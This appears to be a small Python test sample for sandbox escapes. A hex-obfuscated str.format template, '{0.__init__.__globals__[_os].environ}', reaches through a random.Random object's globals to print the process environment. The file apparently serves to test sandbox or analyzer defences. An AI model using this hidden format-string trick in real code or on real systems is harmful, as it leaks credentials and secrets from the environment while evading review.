# family: format
# Escape: the default argument is a lambda whose parameter t is "caller data"; the tool calls it with a template
# it decodes with binascii ("{0.__init__.__globals__[_os].environ}") to print the environment.
import binascii
import random


def tool(renderer=lambda t, v: t.format(v)) -> str:
    text = binascii.unhexlify("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode()
    return renderer(text, random.Random())
